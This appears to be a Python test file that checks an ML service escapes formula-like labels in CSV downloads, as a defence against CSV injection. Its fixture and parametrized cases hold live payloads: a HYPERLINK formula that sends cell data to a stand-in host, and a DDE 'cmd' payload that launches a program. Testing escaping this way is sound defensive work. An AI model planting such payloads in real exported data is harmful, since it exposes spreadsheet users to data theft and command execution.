"""A result CSV opened in a spreadsheet runs nothing: text cells that a spreadsheet would read as
a formula are written behind a single quote (OWASP, CSV Injection); numbers stay numbers."""

import csv
import io

import numpy as np
import pytest

from predictions import columns
from registry.models import MLModel, ModelVersion
from tests.support.api import SETOSA, VIRGINICA, get, submit
from tests.support.factories import MLModelFactory, ModelVersionFactory
from tests.support.workers import run_worker

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE_LABELS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


@pytest.fixture
def hostile_iris(db):
    """The iris model serving labels that spreadsheets would take for formulas."""
    model = MLModelFactory(name="iris", title="")
    ModelVersionFactory(model=model, labels=HOSTILE_LABELS, alias="production")
    return model


def test_formula_labels_in_a_downloaded_csv_are_text(alice_client, hostile_iris):
    response = submit(alice_client, {"model": "iris", "inputs": [SETOSA, VIRGINICA]})
    run_worker()
    prediction_id = response.json()["id"]
    assert get(alice_client, prediction_id).json()["status"] == "succeeded"

    download = alice_client.get(f"/api/v1/predictions/{prediction_id}/result/?format=csv")
    header, *rows = csv.reader(io.StringIO(b"".join(download.streaming_content).decode()))

    labels = [row[4] for row in rows]
    assert labels == ["'" + HOSTILE_LABELS[0], "'" + HOSTILE_LABELS[2]]
    # The probability columns are named after the labels, behind a prefix no formula starts with.
    assert header[5:] == [f"probability_{label}" for label in HOSTILE_LABELS]
    assert all(float(value) == float(value) for row in rows for value in row[:4] + row[5:])


@pytest.mark.parametrize(
    ("label", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", '"\'\r=1"'),
        ("-1", "-1"),
        ("+1.5", "+1.5"),
        ("a=1", "a=1"),
        ('=a, "b"', '"\'=a, ""b"""'),
    ],
)
def test_a_label_that_would_be_a_formula_is_escaped_and_a_number_is_not(label, written):
    version = ModelVersion(
        model=MLModel(task="classification"),
        input_schema=[{"name": "x", "type": "number"}],
        labels=[label, "other"],
    )
    text = columns.csv_lines(np.array([[-1.5]]), np.array([[0, -0.0, 1.0]]), version)
    assert text == f"-1.5,{written},-0.0,1.0\r\n"
